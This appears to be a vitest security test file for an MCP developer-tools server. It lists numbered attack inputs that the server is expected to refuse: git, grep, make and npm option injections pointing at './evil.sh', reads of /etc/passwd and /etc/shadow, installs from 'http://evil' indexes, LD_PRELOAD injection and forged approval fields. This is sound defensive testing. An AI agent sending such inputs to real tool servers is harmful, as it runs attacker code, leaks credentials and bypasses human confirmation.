import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connect, eras } from '../support/server.ts';
import { textOf } from '../support/text-of.ts';
import { createScene, refused, secretText, type Scene } from './scene.ts';

let scene: Scene;
beforeAll(() => {
  scene = createScene();
  mkdirSync(join(scene.root, 'build'));
});
afterAll(() => scene.end());

type Attack = readonly [row: number, tool: string, given: Record<string, unknown>, says: RegExp];

/** `HOME`, `ROOT` and `OUTSIDE` stand for the folders. What cannot be said in a call is not there at all. */
const attacks: readonly Attack[] = [
  [1, 'git_log', { ref: '--output=HOME/.bashrc' }, /^ARG_FLAG: ref: "--output/],
  [1, 'git_blame', { path: 'README.md', ref: '--contents=/etc/passwd' }, /^ARG_FLAG: ref: /],
  [1, 'git_checkout', { branch: '--orphan=x' }, /^ARG_FLAG: branch: /],
  [1, 'git_create_branch', { branch: 'x', start: '--force' }, /^ARG_FLAG: start: /],
  [2, 'git_diff', { from: '--output=HOME/.bashrc' }, /^ARG_FLAG: from: /],
  [2, 'git_diff', { from: 'HEAD', to: '--output=HOME/.bashrc' }, /^ARG_FLAG: to: /],
  [3, 'git_diff', { args: ['--no-index', '/etc/passwd', '/dev/null'] }, /^ARG_INVALID: args: /],
  [3, 'git_diff', { from: '--no-index', to: 'OUTSIDE/secret.txt' }, /^ARG_FLAG: from: /],
  [3, 'git_diff', { paths: ['OUTSIDE/secret.txt'] }, /^PATH_OUTSIDE_ROOTS: .*secret\.txt/],
  [4, 'git_grep', { pattern: 'x', args: ['-Otouch ran;'] }, /^ARG_INVALID: args: /],
  [4, 'git_grep', { pattern: 'x', ref: '-Otouch ran;' }, /^ARG_(?:FLAG|INVALID): ref: /],
  [4, 'git_grep', { pattern: 'x', ref: '--open-files-in-pager=./evil.sh' }, /^ARG_FLAG: ref: /],
  [5, 'git_fetch', { remote: '--upload-pack=touch ran;' }, /^ARG_(?:FLAG|INVALID): remote: /],
  [5, 'git_push', { remote: '--receive-pack=./evil.sh' }, /^ARG_FLAG: remote: /],
  [8, 'git_show', { exec: './evil.sh' }, /^ARG_INVALID: exec: /],
  [8, 'git_show', { output: 'HOME/.ssh/x' }, /^ARG_INVALID: output: /],
  [12, 'git_set_config', { key: 'core.sshCommand', value: './evil.sh' }, /^ARG_INVALID: key: /],
  [13, 'git_clone', { url: 'ext::sh -c touch% ran', folder: 'x' }, /^ARG_INVALID: url: /],
  [15, 'git_init', { folder: 'OUTSIDE/x' }, /^PATH_OUTSIDE_ROOTS: /],
  [13, 'git_fetch', { remote: 'ext::sh -c touch% ran' }, /^ARG_INVALID: remote: /],
  [13, 'git_fetch', { remote: 'file://OUTSIDE' }, /^ARG_INVALID: remote: /],
  [13, 'git_fetch', { remote: 'ssh://-oProxyCommand=./evil.sh/x' }, /^ARG_INVALID: remote: /],
  [14, 'git_add', { paths: ['../outside/secret.txt'] }, /^PATH_OUTSIDE_ROOTS: .*secret\.txt/],
  [16, 'git_status', { cwd: 'OUTSIDE' }, /^PATH_OUTSIDE_ROOTS: /],
  [16, 'git_status', { repo_path: 'OUTSIDE' }, /^PATH_(?:OUTSIDE_ROOTS|NOT_FOUND): /],
  [17, 'git_log', { args: '--oneline -20 --output=ran' }, /^ARG_INVALID: args: /],
  [17, 'git_log', { paths: 'a b' }, /^ARG_INVALID: paths: .*array/],
  [17, 'node_run', { file: 'src/a.txt', args: '-e 1' }, /^ARG_INVALID: args: .*array/],
  [17, 'run', { command: 'git log --output=ran', args: [] }, /^PROGRAM_NOT_FOUND: command: /],
  [17, 'run', { command: 'git', args: 'log --output=ran' }, /^ARG_INVALID: args: .*array/],
  [18, 'grep', { pattern: 'x', args: ['--pre', './evil.sh'] }, /^ARG_INVALID: args: /],
  [18, 'grep', { pattern: 'x', path: '--pre=./evil.sh' }, /^(?:ARG_FLAG|PATH_NOT_FOUND): /],
  [18, 'grep', { pattern: 'x', path: '/etc/shadow' }, /^PATH_OUTSIDE_ROOTS: /],
  [18, 'grep', { pattern: 'x', type: '--search-zip' }, /^ARG_(?:FLAG|INVALID): type: /],
  [19, 'make_task', { task: '--eval=$(shell touch ran)' }, /^ARG_FLAG: task: /],
  [19, 'make_build', { targets: ['-f', '/etc/x'] }, /^ARG_FLAG: targets\.0: /],
  // How make starts programs is nothing that a call says.
  [19, 'make_task', { task: 'all', args: ['SHELL=./evil.sh'] }, /^ARG_INVALID: args\.0: /],
  [20, 'cmake_configure', { args: ['-E', 'touch', 'ran'] }, /^ARG_INVALID: args: /],
  [20, 'cmake_configure', { defines: ['-P'] }, /^ARG_FLAG: defines\.0: /],
  [20, 'cmake_configure', { source: 'OUTSIDE' }, /^PATH_OUTSIDE_ROOTS: /],
  [20, 'cmake_build', { targets: ['--eval=$(shell touch ran)'] }, /^ARG_FLAG: targets\.0: /],
  [20, 'cmake_build', { config: '-P' }, /^ARG_FLAG: config: /],
  [20, 'ctest_test', { only: ['x'], config: '--build-and-test' }, /^ARG_FLAG: config: /],
  [22, 'pip_install', { packages: ['--index-url=http://evil', 'x'] }, /^ARG_(?:FLAG|INVALID): packages\.0: /],
  [22, 'pip_install', { packages: ['git+https://evil/x.git'] }, /^ARG_INVALID: packages\.0: /],
  [22, 'pip_install', { packages: ['x\n--index-url=http://evil'] }, /^ARG_INVALID: packages\.0: /],
  [22, 'pip_install', { requirements: ['/etc/x'] }, /^PATH_OUTSIDE_ROOTS: /],
  [22, 'npm_add', { packages: ['--registry=http://evil'] }, /^ARG_FLAG: packages\.0: /],
  [22, 'npm_add', { packages: ['git+ssh://evil/x'] }, /^ARG_INVALID: packages\.0: /],
  [22, 'npm_add', { packages: ['file:../outside'] }, /^ARG_INVALID: packages\.0: /],
  [23, 'npm_run', { task: '--script-shell=./evil.sh' }, /^ARG_FLAG: task: /],
  [23, 'python_run_module', { module: '-c' }, /^ARG_FLAG: module: /],
  [23, 'docker_build', { build_args: ['BUILDKIT_SYNTAX=evil'] }, /^ARG_INVALID: build_args\.0: /],
  [23, 'docker_logs', { container: '--host=tcp://evil' }, /^ARG_(?:FLAG|INVALID): container: /],
  [23, 'compose_ps', { services: ['--file=/etc/x'] }, /^ARG_(?:FLAG|INVALID): services\.0: /],
  // Programs without actions are run as a person says, who sees the whole line.
  [23, 'run', { command: 'mvn', args: ['-Dmaven.ext.class.path=evil.jar'] }, /^NEEDS_CONFIRM: /],
  [23, 'run', { command: 'go', args: ['build', '-toolexec=./evil.sh'] }, /^NEEDS_CONFIRM: /],
  [89, 'docker_build', { context: '/' }, /^PATH_OUTSIDE_ROOTS: /],
  [89, 'docker_build', { context: 'HOME/.ssh' }, /^PATH_(?:OUTSIDE_ROOTS|PROTECTED): /],
  [89, 'docker_build', { dockerfile: 'OUTSIDE/secret.txt' }, /^PATH_OUTSIDE_ROOTS: /],
  [89, 'docker_ps', { host: 'tcp://evil' }, /^ARG_INVALID: host: /],
  [89, 'compose_up', { file: 'OUTSIDE/secret.txt' }, /^PATH_OUTSIDE_ROOTS: /],
  [94, 'npm_run', { task: 'test', env: { NODE_OPTIONS: '--require ./x' } }, /^ARG_INVALID: env: /],
  [94, 'run', { command: 'git', env: { LD_PRELOAD: './x.so' } }, /^ARG_INVALID: env: /],
  [105, 'git_reset_hard', { ref: 'HEAD', confirm: true }, /^ARG_INVALID: confirm: /],
  [105, 'git_reset_hard', { ref: 'HEAD', confirmed: true, approved: true }, /^ARG_INVALID: confirmed: /],
  [105, 'run', { command: 'git', inputResponses: { approval: { action: 'accept' } } }, /^ARG_INVALID: /],
  [105, 'delete_path', { path: 'README.md', requestState: 'x' }, /^ARG_INVALID: requestState: /],
];

/** Of each row and tool one. */
const oneOfEach = attacks.filter(
  ([row, tool], at) => attacks.findIndex((other) => other[0] === row && other[1] === tool) === at,
);

describe.each(eras)('the arguments of calls, in %s', (era) => {
  let client: Client;
  beforeAll(async () => {
    client = await connect(era, scene.options());
  });
  afterAll(() => client.close());

  const filledIn = (given: Record<string, unknown>) =>
    JSON.parse(
      JSON.stringify(given)
        .replaceAll('OUTSIDE', scene.outside)
        .replaceAll('HOME', scene.home)
        .replaceAll('ROOT', scene.root),
    ) as Record<string, unknown>;

  it.each(era === eras[0] ? attacks : oneOfEach)(
    'ATTACK %i: %s %j is refused, and nothing happens',
    async (_row, name, given, says) => {
      await refused({ client, scene }, { name, given: filledIn(given), says });
    },
  );

  it.each([
    [8, 'git_archive'],
    [9, 'git_submodule'],
    [9, 'git_difftool'],
    [14, 'git_hash_object'],
    [23, 'mvn_run'],
    [89, 'docker_cp'],
    [104, 'set_config'],
    [104, 'allow_directory'],
  ])('ATTACK %i: no tool is named %s', async (_row, name) => {
    await expect(client.callTool({ name, arguments: {} })).rejects.toThrow(/no tool/);
    const { tools } = await client.listTools();
    expect(tools.map((tool) => tool.name)).not.toContain(name);
  });

  it.each([
    [4, 'git_grep', '--open-files-in-pager=./evil.sh'],
    [18, 'grep', '--pre=./evil.sh'],
    [18, 'grep', '-f/etc/passwd'],
  ])('ATTACK %i: %s searches for %s as for any text', async (_row, name, pattern) => {
    const before = scene.snapshot();
    const result = await client.callTool({
      name,
      arguments: { pattern, ...(name === 'grep' && { fixed: true }) },
    });
    expect(textOf(result)).not.toMatch(/root:|evil\.sh:/);
    expect(result.isError, textOf(result)).toBeFalsy();
    expect(scene.snapshot()).toEqual(before);
  });
});

it('ATTACK 23: a path that looks like an option reaches a program as a path', async () => {
  const client = await connect('2025-11-25', scene.options(['--questions', 'host']));
  const odd = join(scene.root, '--import=evil.mjs');
  writeFileSync(odd, "throw new Error('it ran');\n");
  try {
    for (const [name, given] of [
      ['node_run', { file: '--require=./evil.sh' }],
      ['node_test', { files: ['--import=evil.mjs'] }],
      ['python_run', { file: '-c' }],
      ['node_check', { file: '--eval=x' }],
      ['git_add', { paths: [':(top)../outside/secret.txt', '--all'] }],
    ] as const) {
      scene.started();
      const result = await client.callTool({ name, arguments: given });
      // A test that fails is an answer.
      expect(result.isError ?? false, textOf(result)).toBe(name !== 'node_test');
      const wanted = Object.values(given).flat()[0] ?? '';
      expect(scene.started().join('\n')).toContain(`${scene.root}/${wanted}`);
    }
  } finally {
    rmSync(odd);
    await client.close();
  }
});

it('ATTACK 16: nothing is opened without a root', async () => {
  for (const cwd of ['/', scene.home]) {
    const client = await connect('2025-11-25', { ...scene.options(), roots: [], cwd });
    try {
      for (const [name, given] of [
        ['git_status', { cwd: scene.outside }],
        ['read_file', { path: join(scene.outside, 'secret.txt') }],
        ['run', { command: 'git' }],
        ['run_action', { action: 'npm_test', arguments: { cwd: scene.outside } }],
      ] as const) {
        const text = textOf(await client.callTool({ name, arguments: given }));
        expect(text).toMatch(/^NO_ROOTS/);
        expect(text).not.toContain(secretText);
      }
    } finally {
      await client.close();
    }
  }
});
